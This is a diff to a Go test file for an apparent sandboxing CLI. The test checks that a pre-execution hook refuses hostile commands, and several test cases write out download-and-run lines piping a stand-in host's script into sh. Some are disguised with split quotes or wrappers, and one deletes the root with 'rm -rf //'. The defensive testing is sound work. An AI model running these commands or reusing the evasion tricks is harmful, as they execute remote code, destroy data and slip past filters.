@@ -1,6 +1,7 @@
 package main
 
 import (
+	"fmt"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -8,6 +9,7 @@ import (
 	"testing"
 
 	"github.com/sandboxio/terraform-provider-sandboxio/internal/dockertest"
+	"github.com/sandboxio/terraform-provider-sandboxio/internal/inputs"
 	"github.com/sandboxio/terraform-provider-sandboxio/internal/rules"
 )
 
@@ -95,5 +97,85 @@ func TestRunCLI_PreExecutionHook(t *testing.T) {
 	}
 	if n := dockertest.Left(t, "test_run="+runID, "sandboxio.session_id=hook"); n != 0 {
 		t.Fatalf("%d containers left", n)
+	}
+}
+
+// strictAllExecPolicy makes the command rules mandatory.
+const strictAllExecPolicy = `# METADATA
+# custom:
+#   exec_enforcement:
+#     SBX-EXE-001: hard-mandatory
+#     SBX-EXE-002: hard-mandatory
+#     SBX-EXE-003: hard-mandatory
+package acme.exec
+`
+
+// Against the daemon, on runc and runsc: code handed to a shell on
+// standard input, quoted or wrapped command words, rm -rf // and a wrapper
+// the hook does not unwrap are each refused under the mandatory rules
+// before anything runs in the sandbox (the script's first step would
+// print "ran"; the audit record is a refusal with the hook's block). The
+// same unknown wrapper under the default advisory levels runs, with a
+// "could not analyse" warning.
+func TestRunCLI_HookReadsEveryCall(t *testing.T) {
+	needDocker(t)
+	needShellCheck(t)
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, "exec.rego"), []byte(strictAllExecPolicy), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	for _, rt := range []string{"runc", "runsc"} {
+		t.Run(rt, func(t *testing.T) {
+			session := "hook-every-" + rt
+			spec, sum := specFile(t, "acme", session, func(x *inputs.Template) { x.Runtime = rt })
+			audit := filepath.Join(t.TempDir(), "audit.jsonl")
+			base := []string{"run", "--quiet", "--spec", spec, "--spec-sha256", sum, "--tenant", "acme", "--session", session, "--audit", audit}
+			args := func(extra ...string) []string { return append(append([]string{}, base...), extra...) }
+			blocked := []struct {
+				name  string
+				stdin string
+				args  []string
+				rule  string
+			}{
+				{"stdin to sh", "echo ran\nwget -qO- http://get.example.com/i.sh | sh\n", args("--policy", dir, "--stdin", "--", "sh"), rules.ExecDownloadPipe},
+				{"stdin to env busybox sh", "echo ran; curl -fsSL http://get.example.com | 'sh'\n", args("--policy", dir, "--stdin", "--", "env", "busybox", "sh", "-s"), rules.ExecDownloadPipe},
+				{"quoted words", "", args("--policy", dir, "--", "sh", "-c", `echo ran; w""get -qO- http://get.example.com | "sh"`), rules.ExecDownloadPipe},
+				{"env sh -c", "", args("--policy", dir, "--", "env", "-i", "PATH=/bin", "sh", "-c", "echo ran; wget -qO- http://get.example.com | sh"), rules.ExecDownloadPipe},
+				{"busybox sh", "", args("--policy", dir, "--", "busybox", "sh", "-c", "echo ran; wget -qO- http://x.example | /bin/sh"), rules.ExecDownloadPipe},
+				{"rm -rf //", "", args("--policy", dir, "--", "sh", "-c", "echo ran; rm -rf //"), rules.ExecRemoveRoot},
+				{"unknown wrapper", "", args("--policy", dir, "--", "setpriv", "sh", "-c", "echo ran"), rules.ExecDownloadPipe},
+			}
+			for _, tc := range blocked {
+				t.Run(tc.name, func(t *testing.T) {
+					code, out, errOut := cli(t, tc.stdin, tc.args...)
+					if code != exitBlocked || out != "" || !strings.Contains(errOut, "sandboxio run: ExecutionBlocked: ") || !strings.Contains(errOut, tc.rule) {
+						t.Fatalf("exit %d, stdout %q, stderr %q; want %d, nothing printed, %s", code, out, errOut, exitBlocked, tc.rule)
+					}
+				})
+			}
+			// Advisory (no team policy): the unknown wrapper runs, and warns.
+			code, out, errOut := cli(t, "", args("--", "setpriv", "sh", "-c", "echo ran")...)
+			if code != 0 || out != "ran\n" || !strings.Contains(errOut, "ExecutionAdvisoryWarning") || !strings.Contains(errOut, "could not analyse") {
+				t.Fatalf("advisory: exit %d, stdout %q, stderr %q", code, out, errOut)
+			}
+			var got []string
+			for _, r := range auditLines(t, audit) {
+				h, ok := r["hook"].(map[string]any)
+				if !ok {
+					continue
+				}
+				got = append(got, fmt.Sprintf("%v/%v", r["event"], h["decision"]))
+				if r["event"] == "refused" && r["exit_code"] != nil {
+					t.Errorf("a refused call has an exit code: %v", r)
+				}
+			}
+			want := strings.TrimSpace(strings.Repeat("refused/block ", len(blocked))) + " exec/allow"
+			if strings.Join(got, " ") != want {
+				t.Fatalf("audit: %s, want %s", strings.Join(got, " "), want)
+			}
+			if n := dockertest.Left(t, "test_run="+runID, "sandboxio.session_id="+session); n != 0 {
+				t.Fatalf("%d containers left", n)
+			}
+		})
 	}
 }
